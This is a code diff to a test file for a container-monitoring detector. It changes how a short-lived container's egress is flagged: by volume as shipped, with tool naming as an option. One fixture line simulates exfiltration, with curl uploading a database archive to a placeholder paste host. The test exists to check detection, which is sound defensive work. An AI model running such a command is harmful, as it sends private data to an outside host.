@@ -124,10 +124,14 @@ test('a long-lived container sending the same 50 MB spread over a day raises not
   assert.equal(detectors[0]!.stats!().containers_decided, 1);
 });
 
-test('a short-lived container running curl raises an alert naming the tool', () => {
+test('a short-lived container running curl alone raises nothing as shipped; with trigger.tools on it names the tool', () => {
   const c: ContainerRef = { id: 'e'.repeat(64), name: 'probe', image: 'alpine' };
   const evs = [lifecycleEvent(c, T0, 'create'), execEvent(c, T0 + 2000, '/usr/bin/curl', ['-T', '/data/db.tar', 'https://paste.example']), lifecycleEvent(c, T0 + 9000, 'die')];
-  const { detectors } = createAnalytics([def('short-lived-container-egress.yml')]);
+  // Every CI job runs curl in a short-lived container: the shipped definition alerts on volume only.
+  const shipped = def('short-lived-container-egress.yml');
+  assert.deepEqual(run(createAnalytics([shipped]).detectors, evs, T0 + 10 * MIN), []);
+  const withTools = { ...shipped, trigger: { ...(shipped as { trigger: object }).trigger, tools: true } } as typeof shipped;
+  const { detectors } = createAnalytics([withTools]);
   const found = run(detectors, evs, T0 + 10 * MIN);
   assert.equal(found.length, 1);
   assert.deepEqual((found[0]!.details as any).tools, ['curl']);
